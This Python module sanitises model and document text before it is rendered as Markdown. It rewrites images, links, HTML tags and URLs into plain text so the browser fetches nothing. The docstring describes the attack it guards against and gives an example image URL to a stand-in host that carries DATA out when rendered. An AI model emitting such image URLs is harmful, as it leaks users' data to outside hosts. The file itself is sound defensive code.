"""Model and document text made safe to render as Markdown: nothing in it makes the browser fetch.

A model's answer (or a document it read) can hold ``![](http://host/?q=DATA)``: rendered as
Markdown, the browser fetches that URL, which sends DATA out. :func:`safe_markdown` rewrites
every image, link, raw HTML tag and autolink into plain text that shows its target, so the
text still says where it pointed but nothing is fetched or clickable:

- ``![alt](url)``, ``![alt][ref]``, ``<img src=url alt=alt>`` -> ``[image: alt] (url)``
- ``[text](url)``, ``[text][ref]`` -> ``text (url)``; ``<http://x>`` and bare URLs -> ``http://x``
- reference definitions ``[ref]: url`` and any other HTML tag are shown as text.

Targets are shown in code spans (never autolinked); code blocks and code spans of the text
are left as they are (Markdown draws them literally). Every page renders model or document
text through this one function. Plain Python, no Streamlit.
"""

from __future__ import annotations

import re

__all__ = ["safe_markdown"]

_FENCE = re.compile(r"^ {0,3}(`{3,}+|~{3,}+)[^\n]*\n.*?(?:^ {0,3}\1[ \t]*$|\Z)", re.M | re.S)
_CODE_SPAN = re.compile(r"(?<!`)(`++).+?(?<!`)\1(?!`)", re.S)
_DEFINITION = re.compile(r"^ {0,3}\[([^\]\n]+)\]:[ \t]*<?([^\s>]*)>?[^\n]*$", re.M)
_TARGET = r"\(\s*<?([^\s()<>]*(?:\([^\s()]*\)[^\s()<>]*)*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)"
_IMAGE = re.compile(r"!\[((?:[^\[\]]|\[[^\[\]]*\])*)\]" + _TARGET)
_REF_IMAGE = re.compile(r"!\[((?:[^\[\]]|\[[^\[\]]*\])*)\](?:\[([^\[\]]*)\])?")
_LINK = re.compile(r"(?<!\\)\[((?:[^\[\]]|\[[^\[\]]*\])*)\]" + _TARGET)
_REF_LINK = re.compile(r"(?<!\\)\[((?:[^\[\]]|\[[^\[\]]*\])*)\]\[([^\[\]]*)\]")
_IMG_TAG = re.compile(r"<img\b([^>]*)>?", re.I)
_ATTR = re.compile(r"""\b(src|alt)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.I)
_AUTOLINK = re.compile(r"<((?:[a-zA-Z][a-zA-Z0-9+.-]{1,31}:|www\.)[^\s<>]*|[^\s<>@]+@[^\s<>@]+)>")
_BARE_URL = re.compile(
    r"\b(?:(?:https?|ftp|file|data|javascript):|www\.)[^\s<>`\"']*[^\s<>`\"'.,;:!?)\]]", re.I
)
_SLOT = re.compile("\x00(\\d+)\x00")


class _Rewriter:
    """One text's rewrite; code and the targets it writes are held as numbered slots."""

    def __init__(self) -> None:
        self.slots: list[str] = []
        self.refs: dict[str, str] = {}

    def hold(self, text: str) -> str:
        self.slots.append(text)
        return f"\x00{len(self.slots) - 1}\x00"

    def target(self, url: str) -> str:
        """``url`` as a code span: shown literally, never a link."""
        url = url.replace("`", "%60").replace("\n", " ").strip()
        return self.hold(f"`{url}`") if url else ""

    def image(self, alt: str, url: str) -> str:
        label = "image: " + " ".join(alt.split()) if alt.strip() else "image"
        text = self.hold(f"\\[{_escape_brackets(label)}\\]")
        return f"{text} ({self.target(url)})" if url.strip() else text

    def link(self, text: str, url: str) -> str:
        return f"{text} ({self.target(url)})" if url.strip() else text

    def ref(self, label: str) -> str | None:
        return self.refs.get(_norm(label))


def _norm(label: str) -> str:
    return " ".join(label.split()).casefold()


def _escape_brackets(text: str) -> str:
    return re.sub(r"([\[\]\\])", r"\\\1", text)


def _img_tag(r: _Rewriter, match: re.Match[str]) -> str:
    attrs = {
        m.group(1).lower(): next(g for g in m.groups()[1:] if g is not None)
        for m in _ATTR.finditer(match.group(1))
    }
    return r.image(attrs.get("alt", ""), attrs.get("src", ""))


def _ref_image(r: _Rewriter, match: re.Match[str]) -> str:
    alt, label = match.group(1), match.group(2)
    url = r.ref(label or alt) or ""
    return r.image(alt, url)


def _ref_link(r: _Rewriter, match: re.Match[str]) -> str:
    text, label = match.group(1), match.group(2)
    url = r.ref(label or text)
    return r.link(text, url) if url is not None else match.group(0)


def _definition(r: _Rewriter, match: re.Match[str]) -> str:
    r.refs.setdefault(_norm(match.group(1)), match.group(2))
    return f"\\[{_escape_brackets(match.group(1))}\\]: {r.target(match.group(2))}"


def _rewrite_prose(r: _Rewriter, text: str) -> str:
    """Rewrite text outside code (in an order where each step sees the previous one's slots)."""
    text = _IMG_TAG.sub(lambda m: _img_tag(r, m), text)
    text = _DEFINITION.sub(lambda m: _definition(r, m), text)
    text = _IMAGE.sub(lambda m: r.image(m.group(1), m.group(2)), text)
    text = _REF_IMAGE.sub(lambda m: _ref_image(r, m), text)
    for _ in range(3):  # a link inside a link's text: [[a](u)](v)
        text = _LINK.sub(lambda m: r.link(m.group(1), m.group(2)), text)
    text = _REF_LINK.sub(lambda m: _ref_link(r, m), text)
    text = _AUTOLINK.sub(lambda m: r.target(m.group(1)), text)
    text = _BARE_URL.sub(lambda m: r.target(m.group(0)), text)
    # Whatever is left can no longer open an image or an HTML tag.
    return text.replace("<", "\\<").replace("![", "!\\[")


def safe_markdown(text: str) -> str:
    """``text`` as Markdown that renders no image, raw HTML or link: each shows as text with its target.

    Args:
        text: Model output or document text (possibly cut off mid-stream).

    Returns:
        Markdown for ``st.markdown``; the rest of its formatting (emphasis, lists, tables,
        headings, code) is kept.
    """
    if not text:
        return text
    r = _Rewriter()
    text = text.replace("\x00", "")
    text = _FENCE.sub(lambda m: r.hold(m.group(0)), text)
    text = _CODE_SPAN.sub(lambda m: r.hold(m.group(0)), text)
    text = _rewrite_prose(r, text)
    for _ in range(4):  # slots may hold slots (an image's label inside a link's text)
        if "\x00" not in text:
            break
        text = _SLOT.sub(lambda m: r.slots[int(m.group(1))], text)
    return text
